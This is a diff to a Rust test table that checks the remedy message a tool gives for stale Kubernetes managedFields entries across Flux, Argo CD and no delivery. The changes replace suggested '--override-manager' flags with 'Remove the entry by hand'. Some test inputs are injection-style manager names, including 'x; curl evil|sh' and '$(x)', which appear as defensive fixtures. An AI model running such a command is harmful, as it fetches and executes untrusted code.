@@ -325,15 +325,15 @@ fn the_cure_of_a_stale_entry_fits_the_delivery_and_the_owner() {
     };
     let by = |manager: &str| format!("{{manager: {manager}, fieldsV1: {{'f:data': {{'f:old': {{}}}}}}}}");
     for (delivery, managers, expect) in [
-        ("flux", by("manager"), "--override-manager=manager, or remove"),
+        ("flux", by("manager"), "Remove the entry by hand"),
         ("flux", by("kustomize-controller"), "was not applied"),
-        ("flux", format!("{}, {}", by("manager"), by("kustomize-controller")), "--override-manager=manager, or"),
+        ("flux", format!("{}, {}", by("manager"), by("kustomize-controller")), "Remove the entry by hand"),
         ("flux", String::new(), "Remove the entry by hand"),
         ("flux", by("kubectl").replace("f:data", "f:stringData"), "Remove the entry by hand"),
         ("argocd", by("manager"), "Remove the entry by hand"),
         ("argocd", by("argocd-controller"), "was not applied"),
         ("none", by("kubectl"), "Remove the entry by hand"),
-        ("flux", by("'a.b/c:d_e-9'"), "--override-manager=a.b/c:d_e-9, or"),
+        ("flux", by("'a.b/c:d_e-9'"), "Remove the entry by hand"),
         ("flux", by("'x; curl evil|sh'"), "Remove the entry by hand"),
         ("flux", by("'$(x)'"), "Remove the entry by hand"),
         ("flux", by("''"), "Remove the entry by hand"),
